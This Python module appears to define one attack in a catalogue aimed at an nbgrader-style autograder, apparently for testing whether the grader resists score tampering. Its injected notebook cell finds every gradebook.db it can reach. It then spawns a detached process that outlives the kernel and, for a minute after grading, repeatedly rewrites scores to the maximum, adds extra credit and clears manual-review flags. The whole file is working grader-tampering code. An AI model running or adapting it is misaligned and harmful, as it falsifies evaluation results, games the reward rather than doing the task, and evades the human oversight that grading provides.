"""Starts a detached process (new session, outlives the kernel) that for 60 s rewrites every gradebook.db it can find,
every 3 s, setting manual_score to the max: the edit lands after the grader has saved its scores.
"""

KIND = "gradebook"
PLACEMENT = "extra_cell_first"
REST = "blank"
CODE = r'''import os as _atk_os


def _atk_roots():
    """Directories that may be (or contain) the course root: ancestors of the cwd, of the grader's cwd, of the
    course package, the home folder and a few usual places."""
    seeds = [_atk_os.getcwd()]
    for pid in (_atk_os.getppid(),):
        try:
            seeds.append(_atk_os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    try:
        import dropout_course
        seeds.append(_atk_os.path.dirname(_atk_os.path.abspath(dropout_course.__file__)))
    except Exception:
        pass
    for key, value in _atk_os.environ.items():
        if value.startswith("/") and _atk_os.path.isdir(value) and ("NBGRADER" in key or "COURSE" in key):
            seeds.append(value)
    seeds += [_atk_os.path.expanduser("~"), "/work", "/srv/nbgrader", "/srv", "/home", "/course", "/tmp"]
    out = []
    for seed in seeds:
        path = _atk_os.path.abspath(seed)
        while True:
            if path not in out:
                out.append(path)
            parent = _atk_os.path.dirname(path)
            if parent == path:
                break
            path = parent
    return out


def _atk_walk(top, want, seconds=10.0, max_depth=7):
    """Bounded os.walk under top: paths p for which want(p) holds."""
    import time
    end, found = time.time() + seconds, []
    top_depth = top.rstrip("/").count("/")
    for dirpath, dirnames, filenames in _atk_os.walk(top, onerror=lambda e: None):
        if time.time() > end:
            break
        if dirpath.count("/") - top_depth >= max_depth or dirpath.startswith(("/proc", "/sys", "/dev")):
            dirnames[:] = []
        dirnames[:] = [d for d in dirnames if d not in (".venv", "node_modules", "site-packages", "__pycache__")]
        for name in filenames:
            path = _atk_os.path.join(dirpath, name)
            try:
                if want(path):
                    found.append(path)
            except Exception:
                pass
    return found

_ATK_SQL = [
    "UPDATE grade SET manual_score = COALESCE((SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id),"
    " (SELECT max_score FROM task_cells WHERE task_cells.id = grade.cell_id), 100), extra_credit = 100,"
    " needs_manual_grade = {false}",
    "UPDATE grade SET auto_score = COALESCE((SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id),"
    " 100)",
]

import subprocess as _atk_subprocess, sys as _atk_sys

_atk_dbs = [p for p in (_atk_os.path.join(r, "gradebook.db") for r in _atk_roots()) if _atk_os.path.isfile(p)]
_atk_script = f"""
import os, sqlite3, time
os.umask(0)
end = time.time() + 60
while time.time() < end:
    for db in {_atk_dbs!r}:
        try:
            con = sqlite3.connect(db, timeout=5)
            for stmt in {_ATK_SQL!r}:
                con.execute(stmt.format(false=0))
            con.commit(); con.close()
        except Exception:
            pass
    time.sleep(3)
"""
try:
    _atk_p = _atk_subprocess.Popen([_atk_sys.executable, "-c", _atk_script], start_new_session=True,
                                   stdin=_atk_subprocess.DEVNULL, stdout=_atk_subprocess.DEVNULL,
                                   stderr=_atk_subprocess.DEVNULL, close_fds=True)
    print("ATTACK gradebook_delayed_daemon: started pid", _atk_p.pid, "for", _atk_dbs)
except Exception as _atk_error:
    print("ATTACK gradebook_delayed_daemon: could not start:", repr(_atk_error))
'''
